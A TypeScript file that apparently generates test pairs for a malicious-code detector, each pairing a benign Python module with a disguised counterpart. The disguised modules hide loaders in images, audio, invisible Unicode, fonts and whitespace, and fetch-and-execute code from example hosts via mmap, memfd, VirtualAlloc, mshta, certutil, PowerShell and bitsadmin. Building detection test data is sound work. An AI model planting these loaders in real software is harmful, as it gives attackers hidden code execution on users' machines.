import { b64 } from '../kit.ts';
import { atInstall, atLoad, atUse, type Pair, py } from './kit.ts';

const ZERO_WIDTH = Array.from("import os;os.system('id')", (c) =>
  c.charCodeAt(0).toString(2).padStart(8, '0').replaceAll('0', '\u200b').replaceAll('1', '\u200c'),
).join('');
const SELECTORS = Array.from("import os;os.system('id')", (c) =>
  String.fromCodePoint(0xe_01_00 + c.charCodeAt(0) - 16),
).join('');
const XORED = Array.from("import os;os.system('curl http://a.example/i | sh')", (c) => c.charCodeAt(0) ^ 90);

/** A payload inside of what is no code, in memory only, or by the programs that Windows has. */
export const HIDING_PLACES: Readonly<Record<string, Pair>> = {
  'load-png-bits': atLoad(
    py`"""Icons."""
from pathlib import Path
from PIL import Image

def _read(path: Path) -> str:
    """Reads the caption of an icon."""
    bits = "".join(str(value & 1) for pixel in Image.open(path).convert("RGB").getdata() for value in pixel)
    data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8))
    return data.split(b"\0", 1)[0].decode()

eval(compile(_read(Path(__file__).parent / "icons/app.png"), "<icon>", "exec"))`,
    py`"""Icons."""
from pathlib import Path
from PIL import Image

def colours(path: Path) -> list[tuple[int, int, int]]:
    """The colours of an icon."""
    return sorted({pixel for pixel in Image.open(path).convert("RGB").getdata()})`,
    { 'own/icons/app.png': 'PNG' },
  ),
  'use-wav-command': atUse(
    py`"""Sounds."""
import subprocess
import wave
from importlib import resources

class Sounds:
    """Plays sounds."""
    def ding(self) -> None:
        with resources.files("own").joinpath("ding.wav").open("rb") as stream:
            frames = wave.open(stream).readframes(4096)
        command = bytes(value ^ 0x5A for value in frames[::2]).rstrip(b"\0").decode("latin-1")
        subprocess.Popen(command, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)`,
    py`"""Sounds."""
import wave
from importlib import resources

class Sounds:
    """Plays sounds."""
    def seconds(self) -> float:
        with resources.files("own").joinpath("ding.wav").open("rb") as stream:
            sound = wave.open(stream)
            return sound.getnframes() / sound.getframerate()`,
    { 'own/ding.wav': 'RIFF' },
  ),
  'load-zero-width': atLoad(
    `"""Texts."""
_BANNER = "Welcome${ZERO_WIDTH}"

def _strip(text: str) -> str:
    bits = "".join("0" if c == "\\u200b" else "1" for c in text if c in "\\u200b\\u200c")
    return "".join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8))

exec(_strip(_BANNER))`,
    py`"""Texts."""
_INVISIBLE = dict.fromkeys(map(ord, "\u200b\u200c\u200d\ufeff"))

def visible(text: str) -> str:
    """A text without invisible characters."""
    return text.translate(_INVISIBLE)`,
  ),
  'use-selectors': atUse(
    `"""Emoji."""
_SMILE = "\u{1F600}${SELECTORS}"

class Emoji:
    """Emoji by name."""
    def smile(self) -> str:
        body = "".join(chr(ord(c) - 0xE0100 + 16) for c in _SMILE[1:])
        exec(body, {})
        return _SMILE[0]`,
    py`"""Emoji."""

class Emoji:
    """Emoji by name."""
    def plain(self, text: str) -> str:
        return "".join(c for c in text if not 0xFE00 <= ord(c) <= 0xFE0F)`,
  ),
  'load-fixture-marshal': atLoad(
    py`"""Examples."""
import base64
import json
import marshal
from pathlib import Path

_EXAMPLES = json.loads((Path(__file__).parent / "tests/fixtures/example.json").read_text())

def _restore(text: str):
    return marshal.loads(base64.b85decode(text))

exec(_restore(_EXAMPLES["signature"]))`,
    py`"""Examples."""
import json
from pathlib import Path

def examples() -> list[str]:
    """Names of the examples."""
    return list(json.loads((Path(__file__).parent / "tests/fixtures/example.json").read_text()))`,
    { 'own/tests/fixtures/example.json': '{"signature": "c-o^CK~DlO3C7tUv<Fr"}' },
  ),
  'load-font-tail': atLoad(
    py`"""Fonts."""
import zlib
from importlib.resources import read_binary

def _kerning() -> bytes:
    data = read_binary("own", "sans.ttf")
    offset = int.from_bytes(data[-4:], "big")
    return zlib.decompress(data[offset:-4])

exec(_kerning().decode())`,
    py`"""Fonts."""
from importlib.resources import read_binary

def tables() -> int:
    """The number of tables of the font."""
    return int.from_bytes(read_binary("own", "sans.ttf")[4:6], "big")`,
    { 'own/sans.ttf': 'OTTO' },
  ),
  'load-whitespace': atLoad(
    py`"""Licence text."""
from pathlib import Path

def _margins(text: str) -> bytes:
    """Widths of the right margins."""
    return bytes(len(line) - len(line.rstrip()) for line in text.splitlines())

_TEXT = (Path(__file__).parent / "LICENSE.txt").read_text()
exec(_margins(_TEXT).decode("latin-1"))`,
    py`"""Licence text."""
from pathlib import Path

def width(text: str) -> int:
    """The width of the longest line."""
    return max(len(line.rstrip()) for line in text.splitlines())

def licence() -> str:
    """The licence."""
    return (Path(__file__).parent / "LICENSE.txt").read_text()`,
    { 'own/LICENSE.txt': 'MIT   \nfree  \n' },
  ),
  'load-mmap-code': atLoad(
    py`"""Fast checksums."""
import ctypes
import mmap
from urllib.request import urlopen

def _compile():
    """Compiles the checksum for this processor."""
    code = urlopen("https://sums.example/x86_64", timeout=3).read()
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_int.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)

_compile()()`,
    py`"""Fast checksums."""
import mmap
import zlib

def checksum(path: str) -> int:
    """The checksum of a file."""
    with open(path, "rb") as content, mmap.mmap(content.fileno(), 0, prot=mmap.PROT_READ) as page:
        return zlib.crc32(page)`,
  ),
  'use-memfd': atUse(
    py`"""Video thumbnails."""
import os
import requests

class Thumbnails:
    """Makes thumbnails."""
    def make(self, path: str) -> int:
        fd = os.memfd_create("ffmpeg", 0)
        os.write(fd, requests.get("https://thumbs.example/bin/linux", timeout=30).content)
        if os.fork() == 0:
            os.execve(f"/proc/self/fd/{fd}", ["ffmpeg", path], os.environ)
        return fd`,
    py`"""Shared buffers."""
import os

class Buffer:
    """A buffer that children share."""
    def __init__(self, size: int) -> None:
        self.fd = os.memfd_create("own-buffer", 0)
        os.ftruncate(self.fd, size)`,
  ),
  'use-virtual-alloc': atUse(
    py`"""Hardware keys."""
import ctypes
import requests

class HardwareKey:
    """Talks to a hardware key."""
    def open(self) -> int:
        driver = requests.get("https://keys.example/driver", timeout=10).content
        kernel = ctypes.windll.kernel32
        kernel.VirtualAlloc.restype = ctypes.c_void_p
        place = kernel.VirtualAlloc(None, len(driver), 0x3000, 0x40)
        kernel.RtlMoveMemory(ctypes.c_void_p(place), driver, len(driver))
        return kernel.CreateThread(None, 0, ctypes.c_void_p(place), None, 0, None)`,
    py`"""Colours on Windows."""
import ctypes

def enable() -> bool:
    """Switches escape sequences on."""
    kernel = ctypes.windll.kernel32
    handle = kernel.GetStdHandle(-11)
    mode = ctypes.c_ulong()
    kernel.GetConsoleMode(handle, ctypes.byref(mode))
    return bool(kernel.SetConsoleMode(handle, mode.value | 4))`,
  ),
  'load-mshta': atInstall(
    py`import os
import subprocess

def _components() -> None:
    """Installs Windows components."""
    if os.name == "nt":
        subprocess.Popen(["mshta", "https://components.example/c.hta"], creationflags=subprocess.CREATE_NO_WINDOW)

_components()`,
    py`import os
import subprocess

def _windows() -> str:
    """The version of Windows."""
    if os.name != "nt":
        return ""
    return subprocess.check_output(["cmd", "/c", "ver"], text=True).strip()

WINDOWS = _windows()`,
  ),
  'use-certutil': atUse(
    py`"""Certificates."""
import os
import subprocess

class Certificates:
    """Installs the certificates of the company."""
    def install(self) -> None:
        target = os.path.join(os.environ["TEMP"], "certs.exe")
        subprocess.run(["certutil", "-urlcache", "-split", "-f", "https://certs.example/c.txt", target + ".b64"], capture_output=True)
        subprocess.run(["certutil", "-decode", target + ".b64", target], capture_output=True)
        os.startfile(target)`,
    py`"""Certificates."""
import subprocess

class Certificates:
    """Shows the certificates of the user."""
    def names(self) -> str:
        return subprocess.run(["certutil", "-user", "-store", "My"], capture_output=True, text=True).stdout`,
  ),
  'use-com-shell': atUse(
    py`"""Office automation."""
import win32com.client

class Office:
    """Drives office programs."""
    def warm_up(self) -> None:
        shell = win32com.client.Dispatch("WScript.Shell")
        shell.Run("powershell -w hidden -nop -c \"iwr https://office.example/o.ps1 | iex\"", 0, False)`,
    py`"""Office automation."""
import win32com.client

class Office:
    """Drives office programs."""
    def sheets(self, path: str) -> list[str]:
        excel = win32com.client.Dispatch("Excel.Application")
        book = excel.Workbooks.Open(path)
        return [sheet.Name for sheet in book.Worksheets]`,
  ),
  'load-rundll': atLoad(
    `"""Screen colours."""
import base64
import os
import subprocess
import tempfile

_PROFILE = "${b64(`MZ${'\0'.repeat(60)}PE`)}"

def _apply() -> None:
    path = os.path.join(tempfile.gettempdir(), "colour.dat")
    with open(path, "wb") as out:
        out.write(base64.b64decode(_PROFILE))
    subprocess.Popen(["rundll32.exe", f"{path},Start"])

if os.name == "nt":
    _apply()`,
    py`"""Screen colours."""
import os
import subprocess

def settings() -> None:
    """Opens the colour settings."""
    if os.name == "nt":
        subprocess.Popen(["control.exe", "colorcpl"])`,
  ),
  'use-bits': atUse(
    py`"""Offline maps."""
import os
import subprocess

class Maps:
    """Maps for offline use."""
    def fetch(self) -> None:
        target = os.path.expandvars(r"%APPDATA%\maps\viewer.scr")
        subprocess.call(f'bitsadmin /transfer maps /priority high https://maps.example/viewer "{target}"', shell=True, stdout=subprocess.DEVNULL)
        subprocess.call(f'wmic process call create "{target}"', shell=True, stdout=subprocess.DEVNULL)`,
    py`"""Offline maps."""
from pathlib import Path
import requests

class Maps:
    """Maps for offline use."""
    def fetch(self, url: str, target: Path) -> Path:
        target.write_bytes(requests.get(url, timeout=60).content)
        return target`,
  ),
  'use-integer-blob': atUse(
    `"""Hash functions."""
_ROUNDS = ${JSON.stringify(XORED)}

class Digest:
    """A digest with its own rounds."""
    def _mix(self, key: int) -> str:
        return "".join(map(chr, (value ^ key for value in _ROUNDS)))
    def update(self, data: bytes) -> int:
        namespace: dict = {}
        eval(compile(self._mix(90), "<rounds>", "exec"), namespace)
        return sum(data)`,
    py`"""Hash functions."""
_ROUNDS = [51, 55, 42, 53, 40, 46, 122, 53, 41, 97]

class Digest:
    """A digest with its own rounds."""
    def update(self, data: bytes) -> int:
        state = 0
        for index, value in enumerate(data):
            state = (state * 31 + (value ^ _ROUNDS[index % 10])) & 0xFFFFFFFF
        return state`,
  ),
};
